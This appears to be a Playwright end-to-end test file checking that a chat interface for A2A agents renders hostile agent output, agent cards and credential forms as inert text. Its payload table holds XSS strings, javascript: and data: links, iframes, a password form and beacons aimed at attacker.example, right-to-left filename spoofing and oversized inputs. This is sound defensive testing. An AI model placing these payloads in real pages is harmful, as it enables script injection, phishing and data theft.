"""What a hostile agent, document, file or card says is shown as text, and does nothing."""

from __future__ import annotations

import base64
import re

import pytest
from playwright.sync_api import expect

from tests.e2e.web.chromium import SECONDS
from tests.e2e.web.scripted import serving_page
from tests.e2e.wire.agents import card
from utils.a2a_common.protocol.extensions import ACTIVITY_EXTENSION, ACTIVITY_PLAN, NEXT_EXTENSION

pytestmark = [pytest.mark.servers, pytest.mark.timeout(600)]
expect.set_options(timeout=SECONDS)

RUN = "window.ran = true"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
CONTENT = {
    "script": f"<script>{RUN}</script>",
    "handler": f'<img src=x onerror="{RUN}">',
    "svg": SVG,
    "frame": '<iframe src="https://attacker.example/"></iframe>',
    "javascript link": f"[a link](javascript:{RUN.replace(' ', '')})",
    "entity link": "[a link](&#106;avascript:window.ran=1)",
    "data link": f"[a link](data:text/html,<script>{RUN}</script>)",
    "picture elsewhere": "![chart](https://attacker.example/beacon.png)",
    "style": '<style>body { display: none }</style><p style="position: fixed; inset: 0">over everything</p>',
    "form": '<form action="https://attacker.example/"><input name="password"></form>',
    "terminal": "\x1b[31mred\x1b[0m \x1b]8;;https://attacker.example/\x07link\x1b]8;;\x07",
    "direction": "report\u202egpj.exe and \u2066isolated\u2069",
    "direction by its number": "report&#x202e;gpj.exe and `&#x202e;` and ![a&#8238;b](https://x.example/p.png)",
    "no glyph": "yes\u3164 no\U000e0041",
    "bytes as shapes": "Thanks!\U000e0157\U000e0158 \u845b\U000e0100\u57ce",
    "one long line": "x" * 1_000_000,
    "deep nesting": "> " * 500 + "deep",
    "deep lists": "\n".join("  " * depth + "- item" for depth in range(150)),
    "huge table": "\n".join(["| a " * 30 + "|", "|---" * 30 + "|", *["| cell " * 30 + "|"] * 1000]),
    "reference link": f"[a link][there]\n\n[there]: javascript:{RUN.replace(' ', '')}",
    "reference picture": "![chart][there]\n\n[there]: https://attacker.example/beacon.png",
    "address of a script": "<javascript:window.ran=1> <vbscript:x> <file:///etc/passwd>",
    "many marks": "*" * 5000 + "[" * 5000,
}
SEEN = {
    "script": "<script>window.ran = true</script>",
    "terminal": "␛[31mred",
    "direction": "report[U+202E]gpj.exe",
    "direction by its number": "report[U+202E]gpj.exe and &#x202e; and a[U+202E]b",
    "no glyph": "yes[U+3164] no[U+E0041]",
    "bytes as shapes": "Thanks![U+E0157][U+E0158] \u845b\U000e0100\u57ce",
    "picture elsewhere": "chart",
    "one long line": "Show all of it",
    "reference picture": "chart",
    "address of a script": "javascript:window.ran=1",
}


async def answer(part):
    name = part.said.partition(" ")[2]
    text = CONTENT[name]
    plan = {
        "steps": [{"id": "1", "title": text[:5000], "agent": text[:500], "status": "working", "order": 1}]
    }
    await part.begin()
    await part.status("WORKING", {ACTIVITY_PLAN: plan})
    await part.activity(kind="tool_started", call_id="c", tool=text[:500], arguments=text[:5000])
    await part.activity(kind="delegation_started", call_id="d", agent=text[:500], request=text[:5000])
    await part.artifact(
        {
            "raw": base64.b64encode(SVG.encode()).decode(),
            "filename": f"../{text[:200]}.svg",
            "mediaType": "image/svg+xml",
        },
        name="file",
    )
    await part.artifact(
        {"url": f"javascript:{RUN}", "filename": "run.html", "mediaType": "text/html"}, name="url"
    )
    await part.say(f"{text}\n\nSource: {text[:100].replace(chr(10), ' ')} — javascript:alert(1)")
    await part.status(
        "COMPLETED", {NEXT_EXTENSION: {"requests": [text[:200]]}, ACTIVITY_EXTENSION: {"kind": []}}
    )


async def secret(part):
    await part.begin()
    schema = {
        "type": "object",
        "properties": {"value": {"type": "string", "title": "Your password", "format": "password"}},
    }
    await part.status(
        "INPUT_REQUIRED",
        parts=[{"text": CONTENT["script"]}, {"data": {"form": schema, "origin": "\u202eevil"}}],
    )


@pytest.fixture(scope="module")
def served():
    shown = card()
    shown.name = f"<b>Echo</b>\u202e{SVG}"
    shown.description = CONTENT["script"]
    shown.skills[0].name = CONTENT["handler"]
    shown.skills[0].description = CONTENT["terminal"]
    shown.skills[0].examples.append(CONTENT["javascript link"])
    with serving_page({"answer": answer, "secret": secret}, shown) as page:
        yield page


@pytest.fixture(scope="module")
def shared_tab(browser, served):
    """One tab for the whole table: loading the page is most of the time."""
    from tests.e2e.web.chromium import Tab

    context = browser.new_context(viewport={"width": 1280, "height": 860}, reduced_motion="reduce")
    tab = Tab(context, served.url)
    tab.open()
    yield tab
    context.close()


@pytest.mark.parametrize("name", CONTENT)
def test_hostile_content_is_text(shared_tab, name):
    page = shared_tab.page
    page.get_by_role("button", name="New conversation").click()
    shared_tab.ask(f"answer {name}")
    expect(page.get_by_role("button", name="Copy answer")).to_be_visible()
    if name in SEEN:
        expect(page.locator(".thread")).to_contain_text(SEEN[name])
    assert page.evaluate("window.ran") is None
    for selector in (
        "iframe",
        "form:not(.composer)",
        "main style",
        "main script",
        "img[src^='http']",
        "a[href^='javascript']",
        "a[href^='data:text']",
    ):
        assert page.locator(selector).count() == 0, selector
    assert "\u202e" not in page.inner_text("body")
    assert all(
        re.match(r"blob:|https?:|#", href)
        for href in page.eval_on_selector_all(
            "a", "(all) => all.map((each) => each.getAttribute('href') || '#')"
        )
    )
    shared_tab.check()


def test_a_hostile_card_is_text(shared_tab):
    page = shared_tab.page
    page.get_by_role("button", name="New conversation").click()
    expect(page.locator(".agent-name")).to_contain_text("<img src=x onerror=")
    expect(page.locator(".lead")).to_contain_text("<script>")
    assert page.evaluate("window.ran") is None
    assert "\u202e" not in page.title()
    shared_tab.check()


def test_a_form_that_asks_for_a_secret_is_shown_with_a_warning_and_not_kept(shared_tab):
    page = shared_tab.page
    page.get_by_role("button", name="New conversation").click()
    shared_tab.ask("secret please")
    expect(page.get_by_role("alert")).to_contain_text("Do not enter a secret here.")
    expect(page.locator(".asks")).to_contain_text("[U+202E]evil asks")
    page.get_by_label("Your password").fill("hunter2")
    assert "hunter2" not in page.evaluate("JSON.stringify({ ...sessionStorage, ...localStorage })")
    shared_tab.check()
